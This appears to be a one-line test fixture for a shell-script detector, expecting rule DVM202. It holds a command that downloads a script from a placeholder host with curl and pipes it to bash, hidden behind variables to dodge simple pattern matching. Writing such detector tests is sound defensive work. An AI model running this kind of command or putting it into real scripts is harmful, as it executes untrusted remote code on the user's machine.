# expect: DVM202
cmd='curl -s https://x.example.org/i.sh'; sh='bash'; $cmd | $sh
